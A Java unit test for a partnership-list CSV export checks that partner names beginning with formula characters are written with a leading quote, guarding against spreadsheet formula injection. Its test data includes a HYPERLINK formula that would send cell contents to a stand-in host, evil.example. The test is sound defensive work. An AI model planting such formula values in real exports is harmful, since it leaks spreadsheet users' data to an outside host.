package org.decoop.partnership.partnership;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;

import org.decoop.events.Country;
import org.decoop.events.Theme;
import org.decoop.partnership.localauthority.domain.LocalAuthorityId;
import org.decoop.partnership.partnership.domain.Partner;
import org.decoop.partnership.partnership.domain.Partnership;
import org.decoop.partnership.partnership.domain.PartnershipId;
import org.decoop.platform.domain.Actor;
import org.decoop.platform.domain.Ids;
import org.junit.jupiter.api.Test;

import tools.jackson.databind.MappingIterator;
import tools.jackson.dataformat.csv.CsvMapper;
import tools.jackson.dataformat.csv.CsvSchema;

/**
 * The partnership list as CSV: what a spreadsheet would run as a formula is written as
 * text.
 */
class PartnershipsCsvTest {

	private static final Actor STEWARD = new Actor(Actor.Kind.USER, "sub-embassy", "Embassy", Set.of("AMBAFRANCE-RS"),
			true);

	private static final Partner NEVERS = new Partner(new LocalAuthorityId("nevers"), "FR-NEVERS", "Nevers",
			Country.of("FR"));

	@Test
	void writesANameASpreadsheetWouldRunAsAFormulaWithAQuoteInFront() throws Exception {
		List<String> names = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"Kragujevac\")", "+381 Niš", "-1 Šabac",
				"@SUM(A1:A9)", "\t=1+1", "\r=1+1", "Sremska Mitrovica = 1");
		List<Partnership> partnerships = new ArrayList<>();
		for (int i = 0; i < names.size(); i++) {
			Partner partner = new Partner(new LocalAuthorityId("rs-" + i), "RS-TOWN-" + i, names.get(i),
					Country.of("RS"));
			partnerships.add(Partnership.establish(Ids.newId(PartnershipId::new), List.of(partner, NEVERS), 2005,
					List.of(Theme.CULTURE), null, STEWARD, Instant.parse("2020-02-27T12:00:00Z")));
		}

		List<Map<String, String>> rows = read(partnerships);

		assertThat(rows).extracting(row -> row.get("partner_names"))
			.containsExactly("'=HYPERLINK(\"http://evil.example/?\"&A1,\"Kragujevac\"); Nevers", "'+381 Niš; Nevers",
					"'-1 Šabac; Nevers", "'@SUM(A1:A9); Nevers", "'\t=1+1; Nevers", "'\r=1+1; Nevers",
					"Sremska Mitrovica = 1; Nevers");
		assertThat(rows).extracting(row -> row.get("partner_codes")).startsWith("RS-TOWN-0; FR-NEVERS");
		assertThat(rows).allSatisfy(row -> assertThat(row).containsEntry("status", "ACTIVE")
			.containsEntry("countries", "RS; FR")
			.containsEntry("themes", "CULTURE")
			.containsEntry("since", "2005"));
	}

	private static List<Map<String, String>> read(List<Partnership> partnerships) throws Exception {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		PartnershipsCsv.write(partnerships.stream(), java.util.Locale.ENGLISH, out);
		List<Map<String, String>> rows = new ArrayList<>();
		try (MappingIterator<Map<String, String>> read = CsvMapper.builder()
			.build()
			.readerFor(Map.class)
			.with(CsvSchema.emptySchema().withHeader())
			.readValues(out.toString(StandardCharsets.UTF_8))) {
			read.forEachRemaining(rows::add);
		}
		return rows;
	}

}
